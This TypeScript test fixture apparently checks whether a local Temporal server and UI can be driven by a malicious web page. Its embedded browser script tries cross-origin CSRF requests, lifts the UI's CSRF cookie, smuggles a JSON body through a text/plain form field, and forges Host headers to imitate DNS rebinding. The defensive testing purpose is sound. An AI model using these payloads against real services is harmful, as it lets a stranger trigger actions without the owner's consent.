import { createServer, request, type OutgoingHttpHeaders } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';

/** A web page of a stranger, served on loopback under whatever name the browser resolves to it. */
export interface StrangersPage {
  readonly port: number;
  close(): Promise<void>;
}

/** What the page tries: each is a URL that takes a signal. `ui` is tried with its own CSRF cookie as well. */
export interface Targets {
  readonly signalUrls: readonly string[];
  readonly ui: string;
}

/** What a person would send to approve. */
export const SIGNAL = JSON.stringify({ signalName: 'approve', input: { payloads: [] } });

/** Where Temporal takes a signal over HTTP, below the address of its API or of its UI. */
export const signalUrl = (base: string, workflowId: string): string =>
  `${base}/api/v1/namespaces/default/workflows/${workflowId}/signal/approve`;

export async function servePage({ signalUrls, ui }: Targets): Promise<StrangersPage> {
  const server = createServer((_request, answer) => {
    answer.setHeader('content-type', 'text/html');
    answer.end(`<body>at work<script>(${attack.toString()})(${JSON.stringify({ signalUrls, ui, SIGNAL })})</script>`);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    close: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** Runs in the browser: everything that a page may send without being asked, and what it may only try. */
async function attack({ signalUrls, ui, SIGNAL: body }: Targets & { SIGNAL: string }): Promise<void> {
  const { document } = globalThis as unknown as { document: BrowserDocument };
  const send = (url: string, init: object): Promise<string> =>
    fetch(url, { method: 'POST', body, credentials: 'include', signal: AbortSignal.timeout(2_000), ...init }).then(
      () => 'sent',
      () => 'refused',
    );
  // The UI hands its CSRF cookie to whoever asks; cookies know no ports.
  await fetch(ui, { mode: 'no-cors', credentials: 'include' }).catch(() => {});
  const csrf = /_csrf=([^;]+)/.exec(document.cookie)?.[1] ?? 'none';
  for (const url of signalUrls) {
    await send(url, { mode: 'no-cors', headers: { 'content-type': 'text/plain' } });
    await send(url, { mode: 'cors', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf } });
    await send(url, { mode: 'cors', headers: { authorization: 'Bearer any' } });
    const form = document.createElement('form');
    const frame = document.createElement('iframe');
    Object.assign(frame, { name: url });
    Object.assign(form, { action: url, method: 'post', enctype: 'text/plain', target: url });
    const field = document.createElement('input');
    Object.assign(field, { name: body.slice(0, -1), value: '"":""}' });
    form.append(field);
    document.body.append(frame, form);
    const answered = new Promise((resolve) => {
      frame.addEventListener('load', resolve);
      setTimeout(resolve, 2_000);
    });
    form.submit();
    await answered;
  }
  document.body.append('everything was tried');
}

interface BrowserElement {
  append(...nodes: (BrowserElement | string)[]): void;
  addEventListener(event: string, listener: (value: unknown) => void): void;
  submit(): void;
}

interface BrowserDocument {
  cookie: string;
  body: BrowserElement;
  createElement(name: string): BrowserElement;
}

export interface PlainAnswer {
  readonly status: number;
  readonly headers: Record<string, unknown>;
}

/** One request with any Host: what a page does that has the browser resolve its own name to loopback (DNS rebinding). */
export async function askAs(
  host: string,
  url: string,
  { method = 'GET', headers = {}, body = '' }: { method?: string; headers?: OutgoingHttpHeaders; body?: string } = {},
): Promise<PlainAnswer> {
  const sent = request(url, { method, headers: { ...headers, host }, agent: false, timeout: 5_000 });
  sent.once('timeout', () => sent.destroy(new Error('no answer')));
  sent.end(body);
  const [answer] = await once(sent, 'response');
  answer.resume();
  return { status: answer.statusCode, headers: answer.headers };
}
